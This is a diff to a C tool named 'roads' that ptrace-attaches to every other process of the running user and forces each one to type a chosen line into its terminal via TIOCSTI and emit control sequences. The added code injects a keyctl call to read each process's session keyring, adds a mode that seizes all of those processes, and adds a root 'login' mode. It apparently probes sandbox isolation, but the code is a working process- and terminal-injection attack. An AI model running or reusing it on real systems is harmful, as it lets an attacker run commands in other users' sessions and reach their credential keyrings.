@@ -1,7 +1,9 @@
 /* As the store's user: has each process of that user do what its terminal and its descriptors let it, for `roads`.
 
    roads SECONDS LINE    attaches by ptrace to all but itself, one after another, and prints what came of each. Each opens
-                         its terminal and types LINE there (TIOCSTI), writes a control sequence to its outputs, and ends. */
+                         its terminal and types LINE there (TIOCSTI), writes a control sequence to its outputs, and ends.
+   roads SECONDS         traces them, lets them end, and never waits for one: nobody else can, then.
+   roads login WORDS     as root: gives itself a session keyring with a key, as a login does, and runs WORDS. */
 #include <ctype.h>
 #include <dirent.h>
 #include <fcntl.h>
@@ -69,6 +71,7 @@ static void attack(int process, const char *line) {
     unsigned long at = (now.rsp - 8192) & ~15UL;
     printf("process %d:", process);
     list(process);
+    printf(" keyring=%ld", call(process, SYS_keyctl, 0, -3, 0)); /* KEYCTL_GET_KEYRING_ID of the session's */
     put(process, at, "/dev/tty");
     long terminal = call(process, SYS_open, at, O_RDWR, 0), typed = 0;
     put(process, at, line);
@@ -82,10 +85,18 @@ static void attack(int process, const char *line) {
     ptrace(PTRACE_DETACH, process, 0, 0);
 }
 
+static int login(char **words) {
+    long keyring = syscall(SYS_keyctl, 1, "_ses"); /* KEYCTL_JOIN_SESSION_KEYRING */
+    FILE *noted = fopen("/run/keyring", "w");
+    fprintf(noted, "%ld", keyring);
+    fclose(noted);
+    return execvp(words[0], words);
+}
+
 int main(int count, char **words) {
-    if (count != 3) return 2;
+    if (count > 2 && !strcmp(words[1], "login")) return login(words + 2);
     char line[256];
-    snprintf(line, sizeof line, "%s\n", words[2]);
+    snprintf(line, sizeof line, "%s\n", count == 3 ? words[2] : "");
     for (time_t end = time(0) + atoi(words[1]); time(0) < end;) {
         DIR *all = opendir("/proc");
         for (struct dirent *it; (it = readdir(all));) {
@@ -94,7 +105,8 @@ int main(int count, char **words) {
             struct stat found;
             snprintf(path, sizeof path, "/proc/%d/stat", process);
             if (!isdigit(*it->d_name) || process == getpid() || stat(path, &found) || found.st_uid != getuid()) continue;
-            attack(process, line);
+            if (count == 3) attack(process, line);
+            else if (!ptrace(PTRACE_SEIZE, process, 0, 0)) printf("process %d\n", process), fflush(stdout);
         }
         closedir(all);
     }
